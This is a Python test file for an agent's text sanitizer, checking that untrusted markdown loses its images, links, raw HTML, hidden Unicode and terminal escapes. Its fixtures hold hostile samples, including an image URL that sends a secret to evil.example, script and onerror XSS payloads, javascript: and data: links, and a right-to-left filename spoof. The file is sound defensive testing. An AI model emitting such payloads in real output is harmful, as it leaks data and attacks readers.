"""agent.clean: text of others made harmless."""

from __future__ import annotations

import re
from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from agent.clean import clean


@pytest.mark.parametrize(
    ("hostile", "shown"),
    [
        ("![logo](https://evil.example/x.png?q=secret)", "logo"),
        ("[click](https://evil.example)", "click"),
        ("[a]: https://evil.example/ref\ntext", "\ntext"),
        ("see https://evil.example/now please", "see  please"),
        ("WHERE data::text LIKE x", "WHERE data::text LIKE x"),
        ("WHERE data:text/html,x LIKE x", "WHERE  LIKE x"),
        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>"),
        ("<script>alert(1)</script>", "&lt;script>alert(1)&lt;/script>"),
        ("pay\u202egnp.exe\u200b now", "paygnp.exe now"),
    ],
)
def test_clean_takes_the_sting_out(hostile: str, shown: str) -> None:
    """Images, links, raw HTML and hidden characters lose their power and keep their words."""
    assert clean(hostile) == shown


def test_clean_keeps_an_allowed_link() -> None:
    """An address of the curriculum stays a link."""
    assert clean("[docs](https://ok.example/a)", ["https://ok.example/a"]) == "[docs](https://ok.example/a)"


def test_clean_leaves_code_alone() -> None:
    """Inside code, angle brackets and addresses are what the reader wants to see."""
    code = "```html\n<img src='https://x.example'>\n```"
    assert clean(code) == code


ALLOWED = "https://ok.example/a"
HOSTILE = (
    "```\ncode\n````\n<img src=//evil.example/x>",
    "```\ncode\n ```\n<form><input type=password></form>",
    "\\`<img src=//evil.example/x>\\`",
    "`` ` `` <img src=//evil.example/x>",
    "[\\[1\\]](//evil.example/x)",
    "[click\nme](https://evil.example)",
    "> [a]: //evil.example/y\n\n![a]",
    "![x]\n\n[x]:\n//evil.example/y",
    "- [a]: //evil.example/y\n\n[a]",
    "[a][b]\n\n[b]: //evil.example/z",
    "![][b]\n\n[b]: //evil.example/z",
    "<https://evil.example>",
    "<javascript::alert(1)>",
    "[x](data::text/html,y)",
    "[\\](//evil.example/x)",
    "`one\n`<img src=//evil.example/x>`",
    "](\\]`\\]b:!`<a href=//evil.example/x>`]:",
    "[~~~](x)\n\n~~~\n<img src=//evil.example/x>\n[click](//evil.example)",
    "[```](x)\n\n```\n<img src=//evil.example/x>\n[click](//evil.example)\n```",
    "[[~~~](x)](y)\n\n~~~\n<img src=//evil.example/x>\n~~~",
    "[- ](x)a\n  ~~~\n<img src=//evil.example/x>\n  ~~~",
    f"[<img src=//evil.example/x>]({ALLOWED})",
    f'[a]({ALLOWED} ""<img src=//evil.example/x>)',
    f"[!](x)[a]({ALLOWED})",
)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_clean_leaves_nothing_that_fetches_or_links(hostile: str) -> None:
    """However it is wrapped, no tag, image or link is left in what a CommonMark renderer makes of the text."""
    once = clean(hostile, [ALLOWED])
    for cleaned in (once, clean(once, [ALLOWED])):
        rendered = MarkdownIt("commonmark").render(cleaned).replace(f'<a href="{ALLOWED}"', "")
        assert not re.search(r"<(?:a|img|form|input)\b", rendered), rendered


PIECES = (
    "~~~",
    "```",
    "\n",
    "\n",
    "[",
    "](x)",
    "- ",
    "!",
    "<img src=//evil.example>",
    "[a](https://evil.example)",
)
TEXTS = st.recursive(
    st.sampled_from(PIECES),
    lambda inner: (
        st.lists(inner, min_size=1, max_size=8).map("".join)
        | st.builds("[{}]({})".format, inner, st.sampled_from(["x", ALLOWED]))
    ),
)


@given(TEXTS)
def test_clean_of_fences_made_of_links_leaves_nothing_live(text: str) -> None:
    """Whatever cleaning joins to a fence, no image, tag or link but the allowed one is left, once cleaned or twice."""
    once = clean(text, [ALLOWED])
    for cleaned in (once, clean(once, [ALLOWED])):
        tokens = MarkdownIt("commonmark").parse(cleaned)
        every = [each for token in tokens for each in (token, *(token.children or ()))]
        assert not {each.type for each in every} & {"html_block", "html_inline", "image"}
        assert {each.attrs["href"] for each in every if each.type == "link_open"} <= {ALLOWED}


def test_clean_keeps_real_code_where_prose_would_have_made_a_fence() -> None:
    """A fence that a link leaves is shown as its characters, and the code block after it stays as it is."""
    assert clean("[~~~](x) like this:") == "\\~\\~\\~ like this:"
    assert clean("[~~~](x)\n\n~~~\n<b>\n~~~") == "\\~\\~\\~\n\n~~~\n<b>\n~~~"


@pytest.mark.parametrize("text", ["[[a](x)](y)", "![[a](x)](y)", "[[[a](x)](y)](z)"])
def test_clean_of_nested_brackets_leaves_nothing_to_clean(text: str) -> None:
    """What is cleaned already stays as it is, so that a text cleaned for quotation is shown as it was checked."""
    assert clean(clean(text)) == clean(text)


@given(st.text(alphabet="<>![]()abc/:`\\~ \nhttps", max_size=80))
def test_clean_leaves_no_raw_html_or_link(text: str) -> None:
    """Whatever comes in, a CommonMark renderer makes no tag of it but its own, and no link."""
    tokens = MarkdownIt("commonmark").parse(clean(text))
    kinds = {child.type for token in tokens for child in [token, *(token.children or [])]}
    assert not kinds & {"html_block", "html_inline", "link_open", "image"}


def test_clean_strips_what_steers_a_terminal() -> None:
    """Escape sequences and soft hyphens do not reach the screen."""
    assert clean("a\x1b[31mred\x07 so\u00adft") == "a[31mred soft"


@pytest.mark.parametrize(
    "piece",
    [
        "[",
        "![",
        "[a](b",
        "![](",
        "\\",
        "[a](",
        "`[",
        "`a`![",
        "[a]:\n",
        "<a ",
        "```\n",
        "]",
        "[a]( \n",
        "[~~~](x)\n~~~\n",
    ],
)
def test_clean_of_a_flood_takes_time_in_proportion(piece: str) -> None:
    """Eight times as much of whatever opens takes about eight times as long, not its square."""
    few, many = (_taken(piece * (400 * times)) for times in (1, 8))
    assert many < 24 * few


def _taken(text: str) -> float:
    """Processor time of cleaning, the least of three."""
    taken = []
    for _ in range(3):
        started = process_time()
        clean(text)
        taken.append(process_time() - started)
    return min(taken)
